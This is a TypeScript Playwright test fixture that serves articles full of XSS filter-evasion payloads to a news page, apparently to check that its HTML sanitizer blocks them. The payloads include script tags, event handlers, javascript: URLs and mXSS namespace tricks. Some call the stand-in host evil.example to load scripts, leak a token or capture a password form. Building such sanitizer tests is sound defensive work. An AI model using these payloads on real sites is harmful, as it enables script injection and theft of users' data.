import type { Page } from '@playwright/test'

/**
 * Known ways to run code from HTML, after OWASP's XSS filter evasion cheat sheet and the attacks on sanitizers published
 * since: each would set `ran` or call evil.example. Several share a line where none swallows the next.
 */
const PLAIN = [
  '<script>ran=1</script><script/src=//evil.example/x.js></script><scr<script>ipt>ran=1</scr</script>ipt>',
  '<script\u0000>ran=1</script>"><script>ran=1</script><<script>ran=1;//<</script><b <script>ran=1</script>0',
  '<svg><script href="data:,ran=1"></script></svg><svg/onload="ran=1"/><svg><animate onbegin=ran=1 attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran=1</script></svg>#x">',
  '<img src=x onerror=ran=1><img/src/onerror=ran=1><img src=x onerror\n=\nran=1><img src=`x`onerror=ran=1>',
  '<img """><script>ran=1</script>"><img src=JaVaScRiPt:ran=1><img srcset="https://evil.example/x.png 2x">',
  '<a href="javascript:ran=1">1</a><a href="jav&#x09;ascript:ran=1">2</a><a href="&#14; javascript:ran=1">3</a>',
  '<a href="&#106;avascript&#58;ran=1">4</a><a href="vbscript:ran=1">5</a><a href="java\nscript:ran=1">6</a>',
  '<a href="\u0001javascript:ran=1">7</a><a href="javascript&colon;ran=1">8</a><a onclick="ran=1">9</a>',
  '<a href="data:text/html,<script>opener.ran=1</script>">10</a><a href="mailto:a@b.c" ping="//evil.example/">11</a>',
  '<body onload=ran=1><body background="javascript:ran=1"><frameset><frame src="javascript:top.ran=1"></frameset>',
  '<iframe src="javascript:top.ran=1"></iframe><object data="javascript:ran=1"></object><embed src="//evil.example/x">',
  '<link rel=stylesheet href="//evil.example/x.css"><style>body{background:url("//evil.example/x")}</style>',
  '<p style="background:url(//evil.example/x)" id="root">x</p><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<form action="https://evil.example/"><input name="password" autofocus onfocus=ran=1><button>12</button></form>',
  '<video poster="https://evil.example/x" src="//evil.example/x.mp4" onloadstart=ran=1></video><audio src=x onerror=ran=1>',
  '<details open ontoggle=ran=1>x</details><marquee onstart=ran=1>x</marquee><x onclick=ran=1>13</x>',
  '<img src="https://evil.example/?token=1"><img src=//evil.example/2><img src="/\\evil.example/3"><img src="/&#9;/evil.example/4">',
  '<form><input name=attributes><input name=parentNode><img src=x onerror=ran=1></form><a id="__proto__">14</a>',
]
/** Mixed languages swallow what follows: each is an article of its own. */
const MIXED = [
  '<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran=1 src>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=1&gt;"></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran=1>">',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=ran=1>"><template><img src=x onerror=ran=1></template>',
  '<textarea><img title="</textarea><img src=x onerror=ran=1>"></textarea>',
  '<!--<img src="--><img src=x onerror=ran=1//"><![CDATA[><img src=x onerror=ran=1>]]>',
]
/** Ends the elements that attacks leave open. */
const CLOSING =
  '</textarea></style></xmp></noscript></select></template></mtext></svg></math></form></table></video></audio>'

/** Articles of attacks. Before each attack is a paragraph, which the one before must not swallow. */
export const ARTICLES = [PLAIN, ...MIXED.map(attack => [attack])]
export const articleOf = (attacks: readonly string[]): string =>
  attacks.map((attack, at) => `<p>Attack ${at}.</p>${attack}${CLOSING}`).join('')

/** Answers the calls for an article with this content. */
export const answerArticles = (page: Page, contentOf: (id: number) => string): Promise<unknown> =>
  page.route('**/api/news/detail?*', route => {
    const { id } = route.request().postDataJSON() as { id: number }
    const message = { id, title: `Article ${id}`, content: contentOf(id), create_time: null }
    return route.fulfill({ json: { type: 'ok', message } })
  })
